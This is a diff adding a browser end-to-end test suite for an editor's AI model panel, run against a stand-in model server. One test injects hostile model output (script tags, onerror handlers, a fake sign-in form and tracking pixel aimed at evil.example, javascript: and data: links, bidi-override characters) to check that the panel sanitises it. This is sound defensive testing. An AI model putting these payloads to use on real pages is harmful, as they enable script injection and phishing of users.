@@ -1,0 +1,322 @@
+/** The assistant in a real browser, with a stand-in for the model behind the server. */
+import AxeBuilder from '@axe-core/playwright';
+import { expect } from 'chai';
+import type { Browser, Locator, Page } from 'playwright-core';
+import type { Agent } from '../support/agent.ts';
+import { launchBrowser, newPage, openWorkspace, screenshot, viewports, type WatchedPage } from '../support/browser.ts';
+import { answer, type ModelServer, malformed, refuse, stall, startModelServer } from '../support/model-server.ts';
+import { ensurePageBuilt } from '../support/page.ts';
+import { startServer, type TestServer } from '../support/server.ts';
+
+const SCRIPT = '"""Load orders"""\nimport sys\n\nprint(open(sys.argv[1]).read())\n';
+const REWRITTEN = '"""Load orders"""\nfrom pathlib import Path';
+const REPLY = `The file is **never closed**.\n\n\`\`\`python\n${REWRITTEN}\n\`\`\`\n\nThat is all.`;
+
+describe('the assistant beside a script', function () {
+  this.timeout(60_000);
+  let browser: Browser;
+  let model: ModelServer;
+  let server: TestServer;
+  let editor: Agent;
+  let scriptId: number;
+  let watched: WatchedPage;
+  let page: Page;
+
+  before(async function () {
+    this.timeout(240_000);
+    const folder = await ensurePageBuilt();
+    [browser, model] = await Promise.all([launchBrowser(), startModelServer()]);
+    server = await startServer({
+      page: folder,
+      env: { VED_RUNNER: 'pyodide', OPENROUTER_API_KEY: 'sk-or-journey', OPENROUTER_BASE_URL: model.baseUrl, VED_LLM_TIMEOUT_MS: '20000' },
+    });
+    editor = await server.signIn('ed1', '1editor');
+    scriptId = (await editor.post('/api/scripts', { content: SCRIPT })).body.id;
+  });
+  after(async () => {
+    await browser?.close();
+    await server?.stop();
+    await model?.stop();
+  });
+  afterEach(() => watched?.context.close());
+
+  async function open(options: Parameters<typeof newPage>[1] = {}): Promise<void> {
+    watched = await newPage(browser, { viewport: viewports.laptop, permissions: ['clipboard-read', 'clipboard-write'], ...options });
+    page = watched.page;
+    await openWorkspace(page, editor, `/editor/${scriptId}`);
+    await page.locator('.monaco-editor .view-line').first().waitFor();
+    await page.keyboard.press('Alt+4');
+    await prompt().waitFor();
+  }
+  const panel = () => page.locator('#ved-assistant');
+  const prompt = () => panel().getByRole('textbox', { name: 'Prompt' });
+  const lastTurn = () => panel().getByRole('article').last();
+  async function ask(text: string): Promise<Locator> {
+    const before = await panel().getByRole('article').count();
+    await prompt().fill(text);
+    await prompt().press('Control+Enter');
+    const turn = panel().getByRole('article').nth(before);
+    await turn.waitFor();
+    return turn;
+  }
+  async function askAndHear(text: string): Promise<Locator> {
+    const turn = await ask(text);
+    await turn.getByRole('status', { name: 'Answered' }).waitFor();
+    return turn;
+  }
+  async function editorText(): Promise<string> {
+    const lines = await page.locator('.monaco-editor .view-lines').first().locator('.view-line').allInnerTexts();
+    return lines
+      .map((line) => line.replaceAll('\u00a0', ' ').trimEnd())
+      .join('\n')
+      .trimEnd();
+  }
+  async function untilEditorHolds(text: string): Promise<void> {
+    while ((await editorText()) !== text.trimEnd()) await page.evaluate(() => new Promise(requestAnimationFrame));
+  }
+  async function expectAccessible(selector: string): Promise<void> {
+    const { violations } = await new AxeBuilder({ page }).include(selector).analyze();
+    const serious = violations.filter(({ impact }) => impact === 'serious' || impact === 'critical');
+    expect(serious.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join(' ')}`)).to.deep.equal([]);
+  }
+
+  describe('when a person asks', () => {
+    it('shows the answer as it comes, then what it cost', async () => {
+      await open();
+      let release: (value: unknown) => void = () => undefined;
+      const gate = new Promise((resolve) => {
+        release = resolve;
+      });
+      model.reply(answer([REPLY.slice(0, 20), REPLY.slice(20)], { beforePiece: () => gate, costUsd: 0.0021, model: 'house/large' }));
+      const turn = await ask('What is wrong here?');
+      await turn.getByText('The file is').waitFor();
+      expect(await panel().getByRole('button', { name: 'Stop' }).isVisible()).to.equal(true);
+      await screenshot(page, 'assistant-answering');
+      release(undefined);
+      await turn.getByRole('status', { name: 'Answered' }).waitFor();
+      expect(await turn.locator('strong').textContent()).to.equal('never closed');
+      expect(await turn.locator('.ved-Answer-bar').textContent()).to.match(/^python/);
+      expect(await turn.getByText('house/large').count()).to.equal(1);
+      expect(await turn.getByText('$0.0021', { exact: true }).count()).to.equal(1);
+      await page.getByRole('button', { name: '$0.0021 today' }).waitFor();
+      expect(model.asked.at(-1)?.body.messages.at(-1)?.content)
+        .to.contain('import sys')
+        .and.match(/What is wrong here\?$/);
+      await screenshot(page, 'assistant-answered');
+      watched.check();
+    });
+
+    it('sends the text that is on the screen, unsaved changes included, or none of it', async () => {
+      await open();
+      await page.locator('.monaco-editor .view-line').first().click();
+      await page.keyboard.press('Control+End');
+      await page.keyboard.type('# not saved yet');
+      await panel().getByText('with unsaved changes').waitFor();
+      await askAndHear('Explain');
+      expect(model.asked.at(-1)?.body.messages.at(-1)?.content).to.contain('# not saved yet');
+      await panel().getByLabel('Send the script').uncheck();
+      await askAndHear('Explain');
+      expect(model.asked.at(-1)?.body.messages.at(-1)?.content).to.equal('Explain');
+      watched.check();
+    });
+
+    it('shows what will be sent before anything is', async () => {
+      await open();
+      const before = model.asked.length;
+      await prompt().fill('Explain the secret');
+      await panel().getByRole('button', { name: 'Preview' }).click();
+      const dialog = page.getByRole('dialog');
+      await dialog.getByText('Would be refused').waitFor();
+      expect(await dialog.locator('pre').last().textContent())
+        .to.contain('import sys')
+        .and.match(/Explain the secret$/);
+      await expectAccessible('.jp-Dialog-content');
+      await screenshot(page, 'assistant-preview');
+      await dialog.getByRole('button', { name: 'Close' }).click();
+      expect(model.asked).to.have.length(before);
+      watched.check();
+    });
+
+    it('can be stopped, and keeps what had come', async () => {
+      await open();
+      model.reply(stall('Half an answer'));
+      const asked = model.nextAsked();
+      const turn = await ask('Talk on');
+      await turn.getByText('Half an answer').waitFor();
+      await panel().getByRole('button', { name: 'Stop' }).click();
+      await turn.getByText('Stopped by you').waitFor();
+      await (await asked).closed;
+      expect(await turn.getByText('Half an answer').count()).to.equal(1);
+      watched.check();
+    });
+  });
+
+  describe('when code is inserted', () => {
+    it('replaces the selection with the code alone, and one undo takes it back', async () => {
+      await open();
+      model.reply(answer(REPLY));
+      const turn = await askAndHear('Rewrite it');
+      await page.locator('.monaco-editor .view-line').first().click();
+      await page.keyboard.press('Control+a');
+      const before = await editorText();
+      await turn.getByRole('button', { name: 'Insert' }).click();
+      await untilEditorHolds(REWRITTEN);
+      await page.locator('.monaco-editor .view-line').first().click();
+      await page.keyboard.press('Control+z');
+      await untilEditorHolds(before);
+      watched.check();
+    });
+
+    it('is copied without its fences', async () => {
+      await open();
+      model.reply(answer(REPLY));
+      const turn = await askAndHear('Rewrite it');
+      await turn.getByRole('button', { name: 'Copy', exact: true }).click();
+      await page.getByText('Copied', { exact: true }).waitFor();
+      expect(await page.evaluate(() => navigator.clipboard.readText())).to.equal(REWRITTEN);
+      watched.check();
+    });
+  });
+
+  describe('when it cannot answer', () => {
+    it('names the stop-word, and leaves the prompt in the box', async () => {
+      await open({ expected: [/^http 400 \/api\/llm\/stream$/] });
+      const turn = await ask('What is the PASSWORD?');
+      const alert = turn.getByRole('alert');
+      await alert.getByText('"password"').waitFor();
+      expect(await prompt().inputValue()).to.equal('What is the PASSWORD?');
+      await screenshot(page, 'assistant-refused');
+      watched.check();
+    });
+
+    it('says what the upstream did, and asks again when told to', async () => {
+      await open({ expected: [/^http 502 \/api\/llm\/stream$/] });
+      model.reply(refuse(429, 'slow down'), malformed('Half an answer', '{"oops'), answer('A whole answer.'));
+      const first = await ask('Try it');
+      await first.getByRole('alert').getByText('takes no more questions').waitFor();
+      await first.getByRole('button', { name: 'Ask again' }).click();
+      await lastTurn().getByRole('alert').getByText('The answer broke off').waitFor();
+      expect(await lastTurn().getByText('Half an answer').count()).to.equal(1);
+      await screenshot(page, 'assistant-trouble');
+      await lastTurn().getByRole('button', { name: 'Ask again' }).click();
+      await lastTurn().getByText('A whole answer.').waitFor();
+      watched.check();
+    });
+  });
+
+  describe('when a model means harm', () => {
+    it('shows it as text: nothing runs, loads, leads astray or changes the script', async () => {
+      await open();
+      const hostile = [
+        '<script>window.harmed = 1</script><img src=x onerror="window.harmed = 1"><iframe src="/"></iframe>',
+        '<form action="https://evil.example/"><input name="q"><button>Sign in</button></form><style>body { display: none }</style>',
+        '[click](javascript:window.harmed=1) [data](data:text/html,<script>window.harmed=1</script>) [out](https://example.com/x)',
+        '![tracker](https://evil.example/pixel.png)',
+        'red \u001b[31malarm\u001b[0m and \u202egnirts\u202c',
+        `| ${'wide | '.repeat(60)}\n|${'---|'.repeat(60)}\n${`| ${'cell | '.repeat(60)}\n`.repeat(300)}`,
+        '```python\nprint("never closed")\n</code></pre><b onclick="window.harmed=1">bold</b>',
+      ].join('\n\n');
+      model.reply(answer(hostile));
+      const requests: string[] = [];
+      page.on('request', (request) => requests.push(request.url()));
+      const text = await editorText();
+      const turn = await askAndHear('Be evil');
+      const shown = turn.locator('.ved-Answer');
+      expect(await shown.locator('script, img, iframe, form, input, style, [onclick], [onerror], svg, object').count()).to.equal(0);
+      const links = await shown
+        .locator('a')
+        .evaluateAll((all) => all.map((link) => [link.getAttribute('href'), link.getAttribute('rel'), link.getAttribute('target')]));
+      for (const [href, rel, target] of links) {
+        expect(href).to.match(/^https:/);
+        expect([rel, target]).to.deep.equal(['noopener noreferrer nofollow', '_blank']);
+      }
+      expect(await page.evaluate(() => Reflect.get(window, 'harmed'))).to.equal(undefined);
+      expect(requests.filter((url) => !url.startsWith(server.url))).to.deep.equal([]);
+      expect(await shown.textContent())
+        .to.contain('<script>window.harmed')
+        .and.not.match(/[\u001b\u202e]/);
+      expect(await editorText()).to.equal(text);
+      expect(await shown.evaluate((node) => node.scrollWidth <= node.clientWidth + 1)).to.equal(true);
+      await screenshot(page, 'assistant-hostile');
+      watched.check();
+    });
+  });
+
+  describe('when an answer is nested past reason', () => {
+    it('shows it as it is', async () => {
+      await open();
+      model.reply(answer(`${'> '.repeat(5000)}deep`));
+      const turn = await askAndHear('Be deep');
+      await turn.locator('.ved-Answer').getByText('deep').waitFor();
+      watched.check();
+    });
+  });
+
+  describe('when the page is loaded again', () => {
+    it('still holds the prompt that was being typed', async () => {
+      await open();
+      await prompt().fill('Half a thought');
+      await page.reload();
+      await page.locator('.monaco-editor .view-line').first().waitFor();
+      await page.keyboard.press('Alt+4');
+      await prompt().waitFor();
+      expect(await prompt().inputValue()).to.equal('Half a thought');
+      watched.check();
+    });
+  });
+
+  for (const colorScheme of ['light', 'dark'] as const)
+    describe(`in the ${colorScheme} theme`, () => {
+      it('has no serious accessibility violation, and shows the log', async () => {
+        await open({ colorScheme, expected: [/^http 400 \/api\/llm\/stream$/] });
+        model.reply(answer(`${REPLY}\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> quoted, with [a link](https://example.com)`));
+        await askAndHear('What is wrong here?');
+        await (await ask('the password')).getByRole('alert').waitFor();
+        await expectAccessible('#ved-assistant');
+        await screenshot(page, `assistant-${colorScheme}`);
+        await page.getByRole('button', { name: /today$/ }).click();
+        const log = page.locator('#ved-assistant-log');
+        await log.getByRole('button', { name: 'What is wrong here?' }).first().click();
+        await log.getByText('That is all.').waitFor();
+        expect(await log.getByText('⊘ rejected').count()).to.be.greaterThan(0);
+        await expectAccessible('#ved-assistant-log');
+        await screenshot(page, `assistant-log-${colorScheme}`);
+        watched.check();
+      });
+    });
+
+  describe('for a viewer', () => {
+    it('is the log alone, without a prompt', async () => {
+      watched = await newPage(browser, { viewport: viewports.laptop });
+      page = watched.page;
+      await openWorkspace(page, await server.signIn('mo1', '2viewer'));
+      await page.getByRole('button', { name: /today$/ }).click();
+      const log = page.locator('#ved-assistant-log');
+      await log.getByLabel('User').selectOption('ed1');
+      await log.getByRole('button', { name: 'Explain', exact: true }).first().waitFor();
+      expect(await panel().count()).to.equal(0);
+      expect(await page.getByRole('textbox', { name: 'Prompt' }).count()).to.equal(0);
+      await page.getByRole('menuitem', { name: 'Assistant' }).click();
+      expect(await page.getByRole('menuitem', { name: 'Ask the Assistant' }).count()).to.equal(0);
+      watched.check();
+    });
+  });
+
+  describe('on a server without a key', () => {
+    it('says which variable to set', async () => {
+      const bare = await startServer({ page: await ensurePageBuilt(), env: { VED_RUNNER: 'pyodide' } });
+      try {
+        watched = await newPage(browser, { viewport: viewports.laptop });
+        page = watched.page;
+        await openWorkspace(page, await bare.signIn('ed1', '1editor'));
+        await page.keyboard.press('Alt+4');
+        await panel().getByText('Set OPENROUTER_API_KEY').waitFor();
+        expect(await prompt().count()).to.equal(0);
+        await screenshot(page, 'assistant-no-key');
+        watched.check();
+      } finally {
+        await bare.stop();
+      }
+    });
+  });
+});
